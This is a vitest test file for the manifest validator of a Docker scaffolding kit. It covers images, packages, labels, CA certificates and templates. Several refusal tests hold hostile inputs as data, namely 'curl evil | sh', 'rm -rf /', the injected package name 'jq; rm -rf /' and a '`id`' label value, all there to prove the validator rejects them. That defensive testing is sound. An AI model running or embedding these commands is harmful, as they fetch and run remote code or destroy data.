// multistage-kit.json validation: one test per kind of error, each message
// naming the field path, and the stack-aware checks (answers by the stacks'
// own question parsers, template overrides of files the stack generates).

import { describe, expect, it } from 'vitest';
import { KitCertificateError, KitCodeError, KitManifestError } from '../../../src/kit/errors.js';
import { certificatesIn } from '../../../src/kit/load.js';
import { child, validateManifest } from '../../../src/kit/manifest.js';
import { ACME_CA, manifest, kitLoadError } from '../../helpers/kit.js';

/** validateManifest's error message for `json`, or a failure when it validates. */
function structureError(json: unknown): string {
  try {
    validateManifest(json);
  } catch (error) {
    expect(error).toBeInstanceOf(KitManifestError);
    return (error as Error).message;
  }
  throw new Error(`expected ${JSON.stringify(json)} to be refused`);
}

const stacks = (config: Record<string, unknown>): Record<string, unknown> => manifest({ stacks: config });

describe('field paths in messages', () => {
  it('plain keys are dotted, others bracketed, indices in brackets', () => {
    expect(child('stacks', 'go')).toBe('stacks.go');
    expect(child('stacks', '*')).toBe('stacks["*"]');
    expect(child('stacks.go.images', 'gcr.io/distroless/')).toBe('stacks.go.images["gcr.io/distroless/"]');
    expect(child('stacks.go.files', 0)).toBe('stacks.go.files[0]');
  });
});

describe('the manifest itself', () => {
  it('is JSON', () => {
    const error = kitLoadError('{ "name": "x", }');
    expect(error).toBeInstanceOf(KitManifestError);
    expect(error.message).toMatch(/^multistage-kit.json is not valid JSON/);
  });

  it('is an object', () => {
    expect(structureError([1, 2])).toBe('multistage-kit.json must be an object; got an array');
  });

  it('has a name and a version of the right form', () => {
    expect(structureError({ version: '1.0.0', stacks: {} })).toBe('name is missing');
    expect(structureError(manifest({ name: 42 }))).toBe('name must be a string; got "42"');
    expect(structureError(manifest({ name: 'Acme Kit' }))).toMatch(/^name must be a lowercase kit name such as acme-docker-kit/);
    expect(structureError(manifest({ version: 'one point oh' }))).toMatch(/^version must be a version such as 1.2.3/);
    expect(structureError(manifest({ description: 'line\nbreak' }))).toBe('description must not contain control characters or line breaks');
  });

  it('names an unknown field and lists the known ones', () => {
    expect(structureError(manifest({ colour: 'blue' }))).toBe('colour is not a known field (known: $schema, name, version, description, stacks, extraStacks)');
  });

  it('configures at least one stack', () => {
    expect(structureError({ name: 'kit', version: '1.0.0' })).toMatch(/^stacks is missing/);
  });

  it('refuses stack ids that are not ids, and stacks this version does not know', () => {
    expect(structureError(stacks({ 'Next JS': {} }))).toBe('stacks["Next JS"] is not a stack id (e.g. nextjs, go, or * for every stack)');
    const error = kitLoadError(stacks({ rust: {} }));
    expect(error.message).toMatch(/^stacks\.rust is not a stack this version of create-multistage knows \(known: nextjs/);
  });

  it('names an unknown field of a stack', () => {
    expect(structureError(stacks({ nextjs: { imagez: {} } }))).toMatch(/^stacks\.nextjs\.imagez is not a known field \(known: images, packages, labels/);
  });
});

describe('code is refused: a kit is data', () => {
  it.each([
    [{ helpers: { shout: 'x => x.toUpperCase()' } }, 'helpers is refused: a kit is data and templates only; it cannot declare helpers or run anything.'],
    [{ scripts: { postinstall: 'curl evil | sh' } }, 'scripts is refused'],
    [{ stacks: { nextjs: { hooks: { before: 'rm -rf /' } } } }, 'stacks.nextjs.hooks is refused'],
  ])('%j', (extra, message) => {
    expect(() => validateManifest(manifest(extra))).toThrow(KitCodeError);
    expect(() => validateManifest(manifest(extra))).toThrow(message);
  });
});

describe('images', () => {
  it('a replacement that is not an image reference names the field', () => {
    expect(structureError(stacks({ go: { images: { golang: 'Registry/Golang' } } }))).toMatch(
      /^stacks\.go\.images\.golang must be an image repository such as registry.example.com\/library\/node \(the generated tag is kept\) or an image reference with a tag/,
    );
  });

  it('a replacement with the latest tag, or an empty tag, is refused', () => {
    expect(structureError(stacks({ go: { images: { golang: 'registry.example.com/golang:latest' } } }))).toMatch(/^stacks\.go\.images\.golang must not use the "latest" tag/);
    expect(structureError(stacks({ go: { images: { golang: 'registry.example.com/golang:' } } }))).toMatch(/^stacks\.go\.images\.golang must be an image/);
  });

  it('a key with a tag, or one that is no repository, is refused', () => {
    expect(structureError(stacks({ go: { images: { 'golang:1.27': 'registry.example.com/golang' } } }))).toMatch(/^stacks\.go\.images\["golang:1\.27"\] must name a repository without a tag/);
    expect(structureError(stacks({ go: { images: { 'Not an image': 'x' } } }))).toMatch(/^stacks\.go\.images\["Not an image"\] is not an image repository name/);
  });

  it('a prefix key needs a prefix value', () => {
    expect(structureError(stacks({ '*': { images: { 'gcr.io/distroless/': 'registry.example.com/distroless' } } }))).toMatch(
      /^stacks\["\*"\]\.images\["gcr\.io\/distroless\/"\] replaces a prefix \(the key ends in "\/"\), so it must be a prefix ending in "\/" too/,
    );
  });
});

describe('packages and labels', () => {
  it('packages are Debian package names, each once', () => {
    expect(structureError(stacks({ '*': { packages: ['curl', 'jq; rm -rf /'] } }))).toMatch(/^stacks\["\*"\]\.packages\[1\] must be a Debian package name, optionally pinned/);
    expect(structureError(stacks({ '*': { packages: ['curl', 'curl=8.14.1-2'] } }))).toBe('stacks["*"].packages[1] lists curl twice');
    expect(structureError(stacks({ '*': { packages: 'curl' } }))).toBe('stacks["*"].packages must be an array; got "curl"');
  });

  it('label keys are OCI-style names', () => {
    expect(structureError(stacks({ '*': { labels: { 'Com.Acme.Team': 'x' } } }))).toMatch(/^stacks\["\*"\]\.labels\["Com\.Acme\.Team"\] is not a label key/);
    expect(structureError(stacks({ '*': { labels: { 'org.opencontainers.image.vendorr': 'x' } } }))).toMatch(/is not an OCI annotation key/);
    expect(structureError(stacks({ '*': { labels: { 'org.opencontainers.image.title': 'x' } } }))).toBe(
      'stacks["*"].labels["org.opencontainers.image.title"] describes one project, so a kit that labels every project cannot set it',
    );
  });

  it('label values are printable, without quotes, backslashes, $ or line breaks, at most 256 characters', () => {
    for (const value of ['say "hi"', "it's", 'a\\b', '$HOME', 'two\nlines', '`id`']) {
      expect(structureError(stacks({ '*': { labels: { 'com.acme.team': value } } })), value).toMatch(/^stacks\["\*"\]\.labels\["com\.acme\.team"\] must be printable text/);
    }
    expect(structureError(stacks({ '*': { labels: { 'com.acme.team': 'x'.repeat(257) } } }))).toBe('stacks["*"].labels["com.acme.team"] must be 1 to 256 characters (got 257)');
    expect(structureError(stacks({ '*': { labels: { 'com.acme.team': 7 } } }))).toBe('stacks["*"].labels["com.acme.team"] must be a string; got "7"');
  });
});

describe('CA certificates', () => {
  it('accepts PEM certificates, several per file, and drops text around them', () => {
    expect(certificatesIn(`subject=CN = ACME\n${ACME_CA}${ACME_CA.replace(/\n/g, '\r\n')}`, 'ca')).toEqual([ACME_CA, ACME_CA]);
  });

  it('refuses a file that is not a PEM certificate', () => {
    const error = kitLoadError(stacks({ '*': { caCertificates: ['ca/root.pem'] } }), { 'ca/root.pem': 'not a certificate\n' });
    expect(error).toBeInstanceOf(KitCertificateError);
    expect(error.message).toBe('stacks["*"].caCertificates[0] (ca/root.pem) is not a PEM certificate: it has no -----BEGIN CERTIFICATE----- block.');
  });

  it('refuses armour around something that is not a certificate', () => {
    const fake = '-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydGlmaWNhdGU=\n-----END CERTIFICATE-----\n';
    expect(() => certificatesIn(fake, 'ca')).toThrow('ca has a CERTIFICATE block that is not a base64 DER certificate.');
    expect(() => certificatesIn('-----BEGIN X509 CRL-----\nAAAA\n-----END X509 CRL-----\n', 'ca')).toThrow('ca contains a X509 CRL block');
  });

  it('refuses a file that carries a private key', () => {
    const error = kitLoadError(stacks({ '*': { caCertificates: ['ca/root.pem'] } }), {
      'ca/root.pem': `${ACME_CA}-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n`,
    });
    expect(error).toBeInstanceOf(KitCertificateError);
    expect(error.message).toMatch(/contains a private key; a kit carries CA certificates only, never keys/);
  });

  it('names a missing file', () => {
    expect(kitLoadError(stacks({ '*': { caCertificates: ['ca/missing.pem'] } })).message).toBe('stacks["*"].caCertificates[0]: ca/missing.pem does not exist in the kit.');
  });
});

describe('defaults and locked answers (checked by the stacks’ own questions)', () => {
  it('a malformed answer names the field and the rule', () => {
    expect(kitLoadError(stacks({ nextjs: { locked: { port: 70000 } } })).message).toBe('stacks.nextjs.locked.port must be a whole number from 1 to 65535; got 70000');
    expect(kitLoadError(stacks({ nextjs: { defaults: { pm: 'pip' } } })).message).toMatch(/^stacks\.nextjs\.defaults\.pm must be one of npm, pnpm, yarn, bun/);
    expect(kitLoadError(stacks({ go: { defaults: { 'go-version': '2.0' } } })).message).toMatch(/^stacks\.go\.defaults\.go-version must be a Go version/);
  });

  it('a key that is not a question of the stack is named', () => {
    expect(kitLoadError(stacks({ nextjs: { defaults: { 'go-version': '1.27' } } })).message).toMatch(
      /^stacks\.nextjs\.defaults\.go-version is not a question of the nextjs stack \(its flags: name, port, node-version, pm, runtime, standalone\)/,
    );
    expect(kitLoadError(stacks({ '*': { locked: { colour: 'blue' } } })).message).toMatch(/^stacks\["\*"\]\.locked\.colour is not a question of any stack/);
  });

  it('"*" answers are checked against every stack that asks them', () => {
    expect(kitLoadError(stacks({ '*': { defaults: { port: 0 } } })).message).toMatch(/^stacks\["\*"\]\.defaults\.port \(for nextjs\) must be a whole number/);
  });

  it('an answer is a string, number, boolean or list of strings, and not both locked and a default', () => {
    expect(structureError(stacks({ nextjs: { defaults: { port: { value: 1 } } } }))).toBe('stacks.nextjs.defaults.port must be a string, number, boolean or list of strings; got "{\\"value\\":1}"');
    expect(structureError(stacks({ nextjs: { defaults: { port: 1 }, locked: { port: 2 } } }))).toBe('stacks.nextjs.defaults.port is also locked (stacks.nextjs.locked.port); keep one of them');
  });
});

describe('files, templates and partials', () => {
  it('files entries have a template and a path, and write each path once', () => {
    expect(structureError(stacks({ '*': { files: [{ template: 'a.hbs' }] } }))).toBe('stacks["*"].files[0].path is missing');
    expect(structureError(stacks({ '*': { files: [{ template: 'a.hbs', path: 'x', mode: '0755' }] } }))).toMatch(/^stacks\["\*"\]\.files\[0\]\.mode is not a known field/);
    expect(
      structureError(
        stacks({
          '*': {
            files: [
              { template: 'a', path: 'x' },
              { template: 'b', path: './x' },
            ],
          },
        }),
      ),
    ).toBe('stacks["*"].files[1].path writes x, which an earlier entry writes too');
    expect(structureError(stacks({ '*': { files: [{ template: 'a', path: 'package.json' }] } }))).toMatch(/^stacks\["\*"\]\.files\[0\]\.path cannot be package.json/);
    expect(structureError(stacks({ '*': { files: [{ template: 'a', path: '.multistage/ca/x.crt' }] } }))).toMatch(/cannot be under \.multistage\/ca\//);
  });

  it('a files entry may not write a file the stack generates', () => {
    expect(kitLoadError(stacks({ nextjs: { files: [{ template: 'd.hbs', path: 'Dockerfile' }] } }), { 'd.hbs': 'FROM x' }).message).toBe(
      'stacks.nextjs.files[0].path is Dockerfile, which the nextjs stack generates; replace it with "templates" instead',
    );
  });

  it('templates override files the stack generates, by output path', () => {
    expect(kitLoadError(stacks({ nextjs: { templates: { 'Dockerfile.prod': 'x.hbs' } } }), { 'x.hbs': '' }).message).toMatch(
      /^stacks\.nextjs\.templates\["Dockerfile\.prod"\] is not a file the nextjs stack generates \(it generates \.dockerignore, Dockerfile, README\.Docker\.md, compose\.yaml\)/,
    );
  });

  it('partial names are names', () => {
    expect(structureError(stacks({ '*': { partials: { 'Stage Production': 'p.hbs' } } }))).toBe('stacks["*"].partials["Stage Production"] is not a partial name (e.g. stage-production, oci-labels)');
  });
});

describe('extra stacks', () => {
  const extra = (spec: Record<string, unknown>, id = 'python'): Record<string, unknown> => ({
    name: 'k',
    version: '1.0.0',
    extraStacks: { [id]: { title: 'Python', detect: { anyFile: ['pyproject.toml'] }, templates: { docker: 'python/docker' }, ...spec } },
  });

  it('ids are lowercase words and not a built-in stack', () => {
    expect(structureError(extra({}, 'Py_thon'))).toBe('extraStacks.Py_thon is not a stack id: use lowercase words joined by "-" (e.g. python)');
    expect(kitLoadError(extra({}, 'nextjs'), { 'python/docker/Dockerfile.hbs': 'FROM x' }).message).toBe("extraStacks.nextjs is a built-in stack; give the kit's stack another id");
  });

  it('questions: flags that are free, the fields their type needs, defaults valid for their kind', () => {
    const q = (question: Record<string, unknown>) => extra({ questions: [{ flag: 'python-version', message: 'Python version', type: 'text', kind: 'version', default: '3.13', ...question }] });
    expect(structureError(q({ flag: 'force' }))).toMatch(/^extraStacks\.python\.questions\[0\]\.flag is --force, which create-multistage already defines/);
    expect(structureError(q({ flag: 'port' }))).toMatch(/^extraStacks\.python\.questions\[0\]\.flag is --port/);
    expect(structureError(q({ type: 'select' }))).toBe('extraStacks.python.questions[0].choices is required for a select question');
    expect(structureError(q({ default: undefined }))).toMatch(/^extraStacks\.python\.questions\[0\]\.default is required for a text question/);
    expect(structureError(q({ kind: 'port', default: 'http' }))).toBe('extraStacks.python.questions[0].default must be a whole number from 1 to 65535; got "http"');
    expect(structureError(q({ kind: 'colour' }))).toMatch(/^extraStacks\.python\.questions\[0\]\.kind must be one of name, port, version, image, choice, text/);
    expect(structureError(q({ type: 'confirm' }))).toBe('extraStacks.python.questions[0].kind must be left out for a confirm question (its answer is true or false)');
    expect(
      structureError(
        extra({
          questions: [
            { flag: 'a', message: 'A', type: 'confirm' },
            { flag: 'a', message: 'B', type: 'confirm' },
          ],
        }),
      ),
    ).toBe('extraStacks.python.questions[1].flag repeats --a');
  });

  it('a flag another stack uses as a switch cannot take a value here', () => {
    const error = kitLoadError(extra({ questions: [{ flag: 'static', message: 'Static?', type: 'text', kind: 'text', default: 'x' }] }), { 'python/docker/Dockerfile.hbs': 'FROM x' });
    expect(error.message).toBe('extraStacks.python.questions[0].flag is --static, which the cpp stack uses as a switch; use another name');
  });

  it('static context cannot shadow the shared keys or an answer', () => {
    expect(structureError(extra({ context: { name: 'x' } }))).toBe('extraStacks.python.context.name is provided by create-multistage for every stack and cannot be set here');
    expect(structureError(extra({ questions: [{ flag: 'flavour', message: 'F', type: 'text', kind: 'text', default: 'x' }], context: { flavour: 'y' } }))).toBe(
      'extraStacks.python.context.flavour is the answer to --flavour and cannot also be a static value',
    );
  });

  it('the docker template folder must hold a Dockerfile', () => {
    expect(kitLoadError(extra({}), { 'python/docker/README.md': 'hi' }).message).toBe('extraStacks.python.templates.docker must hold a Dockerfile or Dockerfile.hbs');
  });
});
